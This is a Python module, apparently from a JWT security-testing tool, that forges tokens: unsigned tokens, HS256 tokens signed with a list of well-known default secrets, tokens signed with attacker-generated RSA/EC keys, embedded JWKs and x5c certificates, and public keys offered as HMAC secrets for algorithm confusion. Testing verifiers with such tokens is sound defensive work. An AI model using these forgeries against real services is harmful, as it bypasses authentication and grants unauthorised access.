"""Tokens as an attacker makes them: any header over any claims, signed with any key or with none. No I/O."""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
from functools import cache
from typing import Any

import orjson
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID

Part = dict[str, Any] | bytes

WELL_KNOWN = (
    "super-secret-jwt-token-with-at-least-32-characters-long",
    "your-super-secret-jwt-token-with-at-least-32-characters-long",
    "secret", "your-256-bit-secret", "your_jwt_secret", "jwt-secret", "changeme", "password", "supabase", "gurukul",
)  # fmt: skip
"""Secrets out of documentation, examples and word lists; the first two are Supabase's own."""


def encoded(part: Part) -> str:
    """base64url without padding (RFC 7515 section 2) of JSON, or of bytes as they are."""
    data = part if isinstance(part, bytes) else orjson.dumps(part)
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(text: str) -> bytes:
    """What `encoded` was given, as bytes."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def unsigned(header: Part, claims: Part) -> str:
    """Header and claims; a signature goes behind the next dot."""
    return f"{encoded(header)}.{encoded(claims)}"


def with_secret(header: dict[str, Any], claims: Part, secret: bytes) -> str:
    """Signed with HS256, whatever the header says besides."""
    said = unsigned({"alg": "HS256", "typ": "JWT", **header}, claims)
    return f"{said}.{encoded(hmac.new(secret, said.encode(), hashlib.sha256).digest())}"


def with_rsa(header: dict[str, Any], claims: Part) -> str:
    """Signed with RS256 by the attacker's own key."""
    said = unsigned({"alg": "RS256", "typ": "JWT", **header}, claims)
    return f"{said}.{encoded(_rsa_key().sign(said.encode(), padding.PKCS1v15(), hashes.SHA256()))}"


def with_ec(header: dict[str, Any], claims: Part) -> str:
    """Signed with ES256 by the attacker's own key."""
    said = unsigned({"alg": "ES256", "typ": "JWT", **header}, claims)
    r, s = decode_dss_signature(_ec_key().sign(said.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{said}.{encoded(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def rsa_jwk() -> dict[str, Any]:
    """The public half of the attacker's RSA key (RFC 7517)."""
    numbers = _rsa_key().public_key().public_numbers()
    return {"kty": "RSA", "n": _number(numbers.n), "e": _number(numbers.e), "alg": "RS256", "use": "sig", "kid": "a"}


def ec_jwk() -> dict[str, Any]:
    """The public half of the attacker's EC key (RFC 7517)."""
    numbers = _ec_key().public_key().public_numbers()
    point = {name: encoded(number.to_bytes(32, "big")) for name, number in (("x", numbers.x), ("y", numbers.y))}
    return {"kty": "EC", "crv": "P-256", **point, "alg": "ES256", "use": "sig", "kid": "b"}


@cache
def certificate() -> str:
    """The attacker's own certificate over his RSA key, as it stands in `x5c` (RFC 7515 section 4.1.6)."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    start = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    made = x509.CertificateBuilder(name, name, _rsa_key().public_key(), 1, start, start.replace(year=2040))
    return base64.b64encode(made.sign(_rsa_key(), hashes.SHA256()).public_bytes(serialization.Encoding.DER)).decode()


def public_forms(jwk: dict[str, Any]) -> list[bytes]:
    """A public key as the bytes that a confused verifier may take for a secret: PEM, DER, JSON."""
    forms = [orjson.dumps(jwk)]
    key = _public_key(jwk)
    if key is not None:
        public = serialization.PublicFormat.SubjectPublicKeyInfo
        pem = key.public_bytes(serialization.Encoding.PEM, public)
        forms += [pem, pem.rstrip(b"\n"), key.public_bytes(serialization.Encoding.DER, public)]
    return forms


def _public_key(jwk: dict[str, Any]) -> rsa.RSAPublicKey | ec.EllipticCurvePublicKey | None:
    def number(name: str) -> int:
        return int.from_bytes(decoded(str(jwk[name])), "big")

    match jwk.get("kty"), jwk.get("crv"):
        case "RSA", _:
            return rsa.RSAPublicNumbers(number("e"), number("n")).public_key()
        case "EC", "P-256":
            return ec.EllipticCurvePublicNumbers(number("x"), number("y"), ec.SECP256R1()).public_key()
    return None


def _number(value: int) -> str:
    return encoded(value.to_bytes((value.bit_length() + 7) // 8, "big"))


@cache
def _rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65_537, key_size=2048)


@cache
def _ec_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())
